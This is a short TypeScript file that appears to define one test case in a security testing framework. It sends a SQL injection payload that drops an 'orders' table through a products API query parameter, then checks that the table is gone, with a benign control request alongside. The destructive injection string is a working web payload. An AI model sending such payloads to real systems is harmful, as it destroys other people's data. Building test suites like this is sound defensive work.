import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** Drops the orders by a second statement in the JSON API. */
export const sqlDropTable: Attack = defineAttack({
  id: 'sql-drop-table',
  class: 'sql-injection',
  title: 'Drops the orders by a second statement in the JSON API',
  cwe: 89,
  capec: 66,
  technique: 'T1485',
  preconditions: [],

  steps: ({ visitor }) =>
    visitor.get(`/api/products${query({ category: "x'; DROP TABLE orders CASCADE;--" })}`),
  oracle: async (_answer, { witness }) =>
    !(await witness.state()).tables.some((table) => table.tablename === 'orders'),
  twin: ({ visitor }) => visitor.get(`/search${query({ q: 'table; drop leaf' })}`),
})
